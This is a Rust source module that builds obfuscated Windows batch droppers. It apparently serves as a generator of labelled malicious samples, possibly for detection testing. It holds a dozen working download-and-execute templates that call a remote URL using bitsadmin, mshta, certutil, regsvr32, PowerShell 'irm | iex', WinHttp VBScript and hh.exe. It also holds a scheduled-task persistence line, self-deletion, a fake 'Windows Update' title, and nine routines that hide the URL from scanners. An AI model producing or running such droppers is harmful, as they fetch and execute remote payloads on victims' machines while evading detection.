//! Droppers in batch.

use crate::generator::{Dice, Truth, put};
use std::fmt::Write;

const FILES: &[&str] = &[".exe", ".dll", ".ps1", ".vbs", ".txt", ""];
const LETTERS: &str = "abcdefghijklmnopqrstuvwxyz0123456789:/.-";

/// A word of which `text` is the value; `before` gets what must stand in front of it.
fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    let other = dice.name();
    match dice.below(9) {
        0 => {
            // A line of the script's own.
            let _ = writeln!(
                before,
                "goto s{other}\n::{other} {text}\n:s{other}\nfor /f \"tokens=2\" %%a in ('findstr /b \"::{other}\" \"%~f0\"') do set {name}=%%a"
            );
            format!("%{name}%")
        }
        1 => {
            let mut names = std::collections::BTreeMap::new();
            let mut word = String::new();
            for letter in text.chars() {
                match letter.to_digit(10) {
                    Some(digit) => {
                        let name = names.entry(digit).or_insert_with(|| dice.name());
                        let _ = write!(word, "%{name}%");
                    }
                    None => word.push(letter),
                }
            }
            for (digit, name) in names {
                let _ = writeln!(before, "set /a {name}=({}-{})/2", 40 + digit * 2, 40);
            }
            word
        }
        2 => {
            let calls: String =
                dice.pieces(text).iter().map(|piece| format!("call :{other} {piece}\n")).collect();
            let _ = writeln!(
                before,
                "set {name}=\n{calls}goto d{other}\n:{other}\nset {name}=%{name}%%1\ngoto :eof\n:d{other}"
            );
            format!("%{name}%")
        }
        3 => {
            let pieces = dice.pieces(text);
            let _ = writeln!(
                before,
                "set {name}=\ncall :{other} {}\ngoto d{other}\n:{other}\nif \"%~1\"==\"\" exit /b\nset {name}=%{name}%%~1\nshift\ngoto {other}\n:d{other}",
                pieces.iter().map(|piece| format!("\"{piece}\"")).collect::<Vec<_>>().join(" ")
            );
            format!("%{name}%")
        }
        4 => {
            let table = dice.shuffled(LETTERS);
            let _ = writeln!(before, "set {other}={table}\nset {name}=");
            for letter in text.chars() {
                if let Some(at) = table.find(letter) {
                    let _ = writeln!(before, "call set {name}=%%{name}%%%%{other}:~{at},1%%");
                }
            }
            format!("%{name}%")
        }
        5 => {
            let pieces = dice.pieces(text);
            let _ = writeln!(
                before,
                "set {other}={}\nset {name}=\n:{other}\nfor /f \"tokens=1* delims=,\" %%a in (\"%{other}%\") do (\n  set {name}=%{name}%%%a\n  set {other}=%%b\n)\nif defined {other} goto {other}",
                pieces.join(",")
            );
            format!("%{name}%")
        }
        6 => {
            let pieces = dice.pieces(text);
            let order = dice.order(pieces.len());
            let mut lines = String::new();
            for at in &order {
                let _ = writeln!(lines, "set {name}[{at}]={}", pieces[*at]);
            }
            let _ = writeln!(
                before,
                "setlocal EnableDelayedExpansion\n{lines}set {name}=\nfor /l %%n in (0,1,{}) do set \"{name}=!{name}!!{name}[%%n]!\"",
                pieces.len() - 1
            );
            format!("!{name}!")
        }
        7 => {
            let mut word = String::new();
            for piece in dice.pieces(text) {
                let odd = dice.pick(&["___", "#$#", "'';", "-+-"]);
                let name = format!("{odd}{}", dice.name());
                let _ = writeln!(before, "@set \"{name}={piece}\"");
                let _ = write!(word, "%{name}%");
            }
            word
        }
        _ => {
            let _ = writeln!(
                before,
                "if not \"%OS%\"==\"Windows_NT\" (set {name}={other}) else (set {name}={text})"
            );
            format!("%{name}%")
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let line = delivery(dice, truth, &mut before);
    let head = dice.pick(&[
        "@echo off\n",
        "@echo off\ntitle Windows Update\nmode con cols=15 lines=1\ncolor 0a\n",
        "@ECHO OFF\nNET SESSION >nul 2>&1\nif %errorlevel% neq 0 (echo no)\n",
        "@echo off & cls\ncd /d %~dp0\n",
    ]);
    let text = format!("{head}{before}{line}del /f /q \"%~f0\" & exit\n");
    text.replace('\n', "\r\n")
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = dice.name();
    let var = dice.name();
    let url = truth.url(dice, FILES);
    let word = hide(dice, &url, before);
    let template = dice.pick(&[
        "bitsadmin /create @V@ >nul & bitsadmin /addfile @V@ @U@ %TEMP%\\@F@.exe >nul\nbitsadmin /resume @V@\nbitsadmin /complete @V@\nstart %TEMP%\\@F@.exe\n",
        "mshta vbscript:CreateObject(\"WScript.Shell\").Run(\"powershell -w 1 -c iwr @U@ -OutFile %TEMP%\\@F@.exe\",0,True)(window.close)\n",
        "mshta javascript:a=GetObject(\"script:@U@\").Exec();close();\n",
        "powershell -noprofile Start-BitsTransfer -Source '@U@' -Destination '%APPDATA%\\@F@.dll'\nregsvr32 /s \"%APPDATA%\\@F@.dll\"\n",
        "schtasks /create /tn \"Updater @F@\" /sc onlogon /rl highest /f /tr \"powershell -w hidden -c \\\"iex (iwr -useb '@U@').Content\\\"\"\n",
        "certutil -verifyctl -f -split @U@ >nul\nren *.bin @F@.exe\nstart \"\" @F@.exe\n",
        "where curl >nul 2>nul\nif %errorlevel%==0 (curl -L \"@U@\" > \"%PUBLIC%\\@F@.exe\") else (powershell -c \"(New-Object Net.WebClient).DownloadFile('@U@','%PUBLIC%\\@F@.exe')\")\n\"%PUBLIC%\\@F@.exe\" /S\n",
        "set \"@V@=@U@\"\npowershell -ExecutionPolicy Bypass -Command \"$ProgressPreference='SilentlyContinue';[Net.ServicePointManager]::SecurityProtocol=3072;Invoke-RestMethod -Uri $env:@V@ -OutFile $env:TEMP\\@F@.ps1;& $env:TEMP\\@F@.ps1\"\n",
        "conhost --headless powershell \"irm @U@ | iex\"\n",
        "forfiles /p c:\\windows\\system32 /m notepad.exe /c \"cmd /c mshta @U@\"\n",
        "hh.exe @U@\n",
        "(echo Set o = CreateObject^(\"WinHttp.WinHttpRequest.5.1\"^) & echo o.Open \"GET\", \"@U@\", False & echo o.Send & echo ExecuteGlobal o.ResponseText) > %TEMP%\\@F@.vbs\nstart /wait wscript.exe %TEMP%\\@F@.vbs\n",
    ]);
    put(template, &[("U", &word), ("F", &file), ("V", &var)])
}
